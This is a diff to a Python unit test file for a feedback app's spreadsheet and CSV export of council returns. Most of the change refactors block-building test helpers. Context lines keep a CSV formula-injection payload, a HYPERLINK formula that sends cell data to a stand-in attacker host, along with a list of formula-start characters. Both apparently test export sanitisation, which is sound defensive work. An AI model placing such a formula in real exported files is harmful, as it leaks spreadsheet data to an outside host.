@@ -19,36 +19,12 @@ from feedback_app.returns.export import (
     to_sac_csv,
     to_xlsx,
 )
-from feedback_app.returns.model import (
-    ADULT,
-    ALL,
-    COMPLETE,
-    NOT_COLLECTED,
-    PARTIAL,
-    REPRESENTATIVE,
-    Block,
-    Cell,
-    Return,
-)
+from feedback_app.returns.model import NOT_COLLECTED, PARTIAL, Return
 from feedback_app.vocabulary import SAC_CATEGORIES
+from tests.unit.blocks import all_only_block, split_block
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def split(block_id: str, measure: str, counts: dict[str, tuple[int, int]], status: str = COMPLETE) -> Block:
-    cells = []
-    for category, (adult, representative) in counts.items():
-        cells += [
-            Cell(category, ALL, adult + representative),
-            Cell(category, ADULT, adult),
-            Cell(category, REPRESENTATIVE, representative),
-        ]
-    return Block(block_id, measure, status, tuple(cells))
-
-
-def all_only(block_id: str, measure: str, counts: dict[str, int], status: str = COMPLETE) -> Block:
-    return Block(block_id, measure, status, tuple(Cell(c, ALL, n) for c, n in counts.items()))
 
 
 def demo_return(organisation: str = "Demo Council") -> Return:
@@ -72,17 +48,17 @@ def demo_return(organisation: str = "Demo Council") -> Return:
         "agreement_kappa": 0.61,
     }
     blocks = (
-        split("asked_outcomes", "sg4a_asked", asked),
-        split("outcomes_achieved", "sg4a_achieved", achieved, PARTIAL),
-        all_only(
+        split_block("asked_outcomes", "sg4a_asked", asked),
+        split_block("outcomes_achieved", "sg4a_achieved", achieved, PARTIAL),
+        all_only_block(
             "risk",
             "sg2e_risk",
             {"risk_removed": 11, "risk_reduced": 9, "risk_remained": 3, "not_recorded": 0},
         ),
-        all_only(
+        all_only_block(
             "capacity", "sg3a_capacity", {"yes": 0, "no": 0, "dont_know": 0, "not_recorded": 0}, NOT_COLLECTED
         ),
-        split(
+        split_block(
             "experience",
             "feel_safer",
             {
@@ -94,8 +70,8 @@ def demo_return(organisation: str = "Demo Council") -> Return:
                 "not_recorded": (0, 1),
             },
         ),
-        split("experience", "a_measure_with_a_name_well_over_thirty_one_characters", {"yes": (29, 23)}),
-        all_only("about", "conversations", {k: v for k, v in about.items() if isinstance(v, int)}),
+        split_block("experience", "a_measure_with_a_name_well_over_thirty_one_characters", {"yes": (29, 23)}),
+        all_only_block("about", "conversations", {k: v for k, v in about.items() if isinstance(v, int)}),
     )
     return Return(organisation, "2025-26", blocks, about)
 
